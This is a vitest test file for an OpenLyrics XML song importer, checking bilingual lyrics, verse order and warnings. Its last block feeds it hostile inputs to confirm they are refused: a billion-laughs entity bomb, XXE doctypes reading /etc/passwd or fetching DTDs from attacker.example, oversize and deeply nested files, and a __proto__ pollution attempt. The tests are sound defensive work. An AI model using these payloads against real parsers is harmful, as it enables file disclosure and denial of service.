import { describe, expect, it } from 'vitest';
import { ImportError, importOpenLyrics } from '../../../../../src/shared/content/import';
import { column, expectValidSong, fixture, warningKeys } from './helpers';

const options = { language: 'fr' };

function song(
  lyrics: string,
  properties = '<titles><title>T</title></titles><authors><author>A</author></authors>',
) {
  return `<?xml version="1.0" encoding="UTF-8"?>
<song xmlns="http://openlyrics.info/namespace/2009/song" version="0.9">
  <properties>${properties}</properties>
  <lyrics>${lyrics}</lyrics>
</song>`;
}

function importError(text: string): ImportError {
  try {
    importOpenLyrics(text, options);
  } catch (error) {
    if (error instanceof ImportError) return error;
    throw error;
  }
  throw new Error('imported, but should have been refused');
}

describe('importOpenLyrics: a bilingual file with chords, verseOrder, BOM and CRLF', () => {
  const result = importOpenLyrics(fixture('internationale-bilingual.xml'), options);

  it('is a song the pack accepts, sung in the title marked original', () => {
    expectValidSong(result);
    expect(result.song.language).toBe('ru');
    expect(result.song.title).toEqual({
      ru: 'Интернационал',
      en: 'The Internationale & its “Refrain”',
    });
    expect(result.song.artist).toBe('Eugène Pottier, Arkady Kots');
    expect(result.song.credits).toBe('Public domain');
  });

  it('follows verseOrder, the chorus twice, with labels in each language', () => {
    expect(result.song.sections.map((s) => s.label)).toEqual([
      { ru: 'Куплет 1', en: 'Verse 1' },
      { ru: 'Припев', en: 'Chorus' },
      { ru: 'Куплет 2', en: 'Verse 2' },
      { ru: 'Припев', en: 'Chorus' },
    ]);
  });

  it('pairs the languages of one verse name line by line, chords and comments gone', () => {
    expect(result.song.sections[0]!.lines[0]).toEqual({
      ru: 'Вставай, проклятьем заклеймённый,',
      en: 'Arise, you who are branded with a curse,',
    });
    expect(column(result, 'ru')[0]![2]).toBe('Кипит наш разум возмущённый');
    expect(column(result, 'ru')[1]![0]).toBe('Это есть наш последний');
  });

  it('keeps the line the translation lacks, and names the verse and language', () => {
    expect(result.song.sections[2]!.lines[3]).toEqual({ ru: 'Своею собственной рукой.' });
    expect(result.warnings.map((w) => [w.key, w.params])).toEqual([
      [
        'editor:import.warning.verseLinesMismatch',
        { verse: 'v2', language: 'en', original: 4, translation: 3 },
      ],
    ]);
  });
});

describe('importOpenLyrics: the shapes of the format', () => {
  it('reads 0.8 `<line>` elements and verses in file order without a verseOrder', () => {
    const result = importOpenLyrics(
      song(
        '<verse name="c"><lines><line>Un</line><line>Deux</line></lines></verse>' +
          '<verse name="v1"><lines><line>Trois</line></lines></verse>',
      ),
      options,
    );
    expectValidSong(result);
    expect(column(result, 'fr')).toEqual([['Un', 'Deux'], ['Trois']]);
  });

  it('keeps a verse the order leaves out, at the end, and names an order entry that is missing', () => {
    const result = importOpenLyrics(
      song(
        '<verse name="v1"><lines>Un</lines></verse><verse name="v2"><lines>Deux</lines></verse>',
        '<titles><title>T</title></titles><verseOrder>v1 v9</verseOrder>',
      ),
      options,
    );
    expectValidSong(result);
    expect(column(result, 'fr')).toEqual([['Un'], ['Deux']]);
    expect(warningKeys(result)).toEqual([
      'editor:import.warning.verseMissing',
      'editor:import.warning.verseNotInOrder',
      'editor:import.warning.artistMissing',
    ]);
  });

  it('decodes XML escapes and character references but expands no other entity', () => {
    const result = importOpenLyrics(
      song('<verse name="v1"><lines>A &amp; B &#233; &lol; &#0;</lines></verse>'),
      options,
    );
    expect(column(result, 'fr')).toEqual([['A & B é &lol; &#0;']]);
  });

  it('gives a verse with an empty name no label rather than an empty one', () => {
    const result = importOpenLyrics(
      song('<verse name="" lang="ru"><lines>Да</lines></verse>'),
      options,
    );
    expectValidSong(result);
    expect(result.song.sections).toEqual([{ lines: [{ ru: 'Да' }] }]);
  });

  it('skips a transliteration and says so', () => {
    const result = importOpenLyrics(
      song(
        '<verse name="v1" lang="ru"><lines>Да</lines></verse><verse name="v1" lang="en" translit="ru"><lines>Da</lines></verse>',
      ),
      options,
    );
    expect(result.song.sections[0]!.lines).toEqual([{ ru: 'Да' }]);
    expect(warningKeys(result)).toContain('editor:import.warning.translitSkipped');
  });

  it('refuses XML that is not OpenLyrics, not XML at all, or has no lyrics', () => {
    expect(importError('<html><body>x</body></html>').key).toBe('notOpenLyrics');
    expect(importError('<song>\n<lyrics>\n<verse>').key).toBe('notXmlAt');
    expect(importError('<song>\n<lyrics>\n<verse>').params.line).toBeGreaterThan(0);
    expect(importError(song('')).key).toBe('noLyrics');
  });
});

describe('importOpenLyrics: hostile files are refused or neutral', () => {
  it('refuses an entity bomb before any expansion', () => {
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE song [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<song><lyrics><verse name="v1"><lines>&lol9;</lines></verse></lyrics></song>`;
    expect(importError(bomb).key).toBe('doctype');
  });

  it('refuses an external entity (XXE) whatever its case or spacing', () => {
    for (const doctype of [
      '<!DOCTYPE song [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!doctype song SYSTEM "http://attacker.example/x.dtd">',
      '<!DocType song PUBLIC "-//x//y" "https://attacker.example/y.dtd">',
    ]) {
      const text = `<?xml version="1.0"?>\n${doctype}\n${song('<verse name="v1"><lines>&xxe;</lines></verse>').replace(/^<\?xml[^>]*>/, '')}`;
      expect(importError(text).key).toBe('doctype');
    }
  });

  it('refuses a 5 MB file before parsing it', () => {
    const verse = '<verse name="v1"><lines>la la la<br/></lines></verse>';
    const huge = song(verse.repeat(Math.ceil((5 * 1024 * 1024) / verse.length)));
    expect(huge.length).toBeGreaterThan(5 * 1024 * 1024);
    expect(importError(huge).key).toBe('tooLarge');
  });

  it('refuses nesting deeper than any song without blowing the stack', () => {
    const deep = song(
      `<verse name="v1"><lines>${'<tag name="b">'.repeat(5000)}x${'</tag>'.repeat(5000)}</lines></verse>`,
    );
    expect(importError(deep).key).toBe('notXml');
  });

  it('does not let a verse named __proto__ touch any prototype', () => {
    const result = importOpenLyrics(
      song('<verse name="__proto__" lang="__proto__"><lines>Un</lines></verse>'),
      options,
    );
    expectValidSong(result);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('Un');
  });
});
